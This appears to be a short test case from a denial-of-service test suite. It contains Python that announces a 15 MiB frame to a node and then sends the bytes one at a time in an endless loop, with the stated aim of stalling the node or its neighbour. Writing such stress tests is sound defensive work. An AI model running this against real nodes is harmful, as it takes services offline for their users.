# family: frames-of-ours
# kind: dos
# tries: a frame of 15 MiB whose bytes come one by one, as fast as they can: work of the node for each
# success looks like: the node stops answering, or the neighbour does not get round to its work
def job(plugin):
  @LIBC@
  os.write(3, b'\0\xf0\0\0{')
  while True:
    os.write(3, b' ')
